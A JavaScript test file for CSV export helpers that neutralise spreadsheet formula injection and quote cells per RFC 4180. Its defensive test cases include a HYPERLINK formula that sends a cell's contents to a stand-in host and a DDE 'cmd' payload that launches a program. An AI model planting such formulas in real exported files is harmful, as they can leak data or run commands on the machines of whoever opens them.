import fc from 'fast-check';
import { guardFormula, quoteCsvCell } from './csv.js';

it.each([
  ['=HYPERLINK("http://x/?"&A1)', '\'=HYPERLINK("http://x/?"&A1)'],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['+1+cmd', "'+1+cmd"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "'\t=1"],
  ['\r=1', "'\r=1"],
  ['\n=1', "'\n=1"],
  ['＝1+1', "'＝1+1"],
  ['-', "'-"],
  ['--lr=3e-4', "'--lr=3e-4"],
  ['-1e5+A1', "'-1e5+A1"],
])('a spreadsheet does not run %j', (text, guarded) => expect(guardFormula(text)).toBe(guarded));

it.each([
  '',
  '1',
  '-1',
  '+1.5',
  '-.5',
  '-1.',
  '-1.25e-7',
  '-Infinity',
  '-inf',
  '+NaN',
  'a=b',
  "'=1",
  ' x',
  '(-1)',
  '日本',
])('a number or a text that runs nowhere stays: %j', (text) => expect(guardFormula(text)).toBe(text));

it('a guarded text never begins as a formula, and its text is whole', () => {
  fc.assert(
    fc.property(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '1', 'e', '.', '"', ' ') }), (text) => {
      const guarded = guardFormula(text);
      expect(guarded.endsWith(text)).toBe(true);
      expect(/^[=@\t\r\n]/.test(guarded)).toBe(false);
    })
  );
});

it.each([
  ['a,b', '"a,b"'],
  ['say "hi"', '"say ""hi"""'],
  ['two\nlines', '"two\nlines"'],
  ['a\rb', '"a\rb"'],
  ['plain', 'plain'],
])('quotes %j as RFC 4180 wants it', (text, quoted) => expect(quoteCsvCell(text)).toBe(quoted));
